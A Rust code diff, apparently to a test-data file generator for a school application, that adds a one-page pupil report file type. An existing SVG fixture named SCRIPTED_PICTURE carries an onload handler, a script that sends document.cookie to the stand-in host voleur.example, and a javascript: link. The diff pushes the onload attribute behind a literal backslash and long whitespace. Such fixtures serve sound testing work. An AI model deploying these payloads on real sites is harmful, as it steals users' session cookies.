@@ -12,6 +12,8 @@ pub(super) enum File {
     Screen(&'static str),
     /// An invoice over so many euros (PDF, one page).
     Invoice(&'static str, u32),
+    /// A pupil's report (PDF, one page).
+    Report(&'static str),
     /// A list of pupils (CSV) of so many lines.
     Pupils(&'static str, usize),
     Text(&'static str, &'static str),
@@ -53,7 +55,8 @@ const INSTRUMENTS: [&str; 9] = [
     "batterie",
 ];
 
-const SCRIPTED_PICTURE: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80" onload="document.title='svg'">
+const SCRIPTED_PICTURE: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80" \
+                                                                                                  onload="document.title='svg'">
   <script>document.body.textContent = 'svg'; fetch('https://voleur.example/?c=' + document.cookie)</script>
   <rect width="200" height="80" fill="#d33"/>
   <a href="javascript:alert(1)"><text x="20" y="45" fill="#fff">Logo de l'école</text></a>
@@ -73,6 +76,7 @@ impl File {
         match self {
             File::Screen(name)
             | File::Invoice(name, _)
+            | File::Report(name)
             | File::Pupils(name, _)
             | File::Text(name, _)
             | File::ScriptedPicture(name)
@@ -83,7 +87,7 @@ impl File {
     pub(super) fn media_type(self) -> &'static str {
         match self {
             File::Screen(_) => "image/png",
-            File::Invoice(..) => "application/pdf",
+            File::Invoice(..) | File::Report(_) => "application/pdf",
             File::Pupils(..) => "text/csv",
             File::Text(..) => "text/plain",
             File::ScriptedPicture(_) => "image/svg+xml",
@@ -95,6 +99,7 @@ impl File {
         match self {
             File::Screen(_) => picture::screenshot(random),
             File::Invoice(name, euros) => sheet::invoice(name, account, euros),
+            File::Report(_) => sheet::report(account),
             File::Pupils(_, lines) => pupils(lines, random).into_bytes(),
             File::Text(_, text) => text.as_bytes().to_vec(),
             File::ScriptedPicture(_) => SCRIPTED_PICTURE.as_bytes().to_vec(),
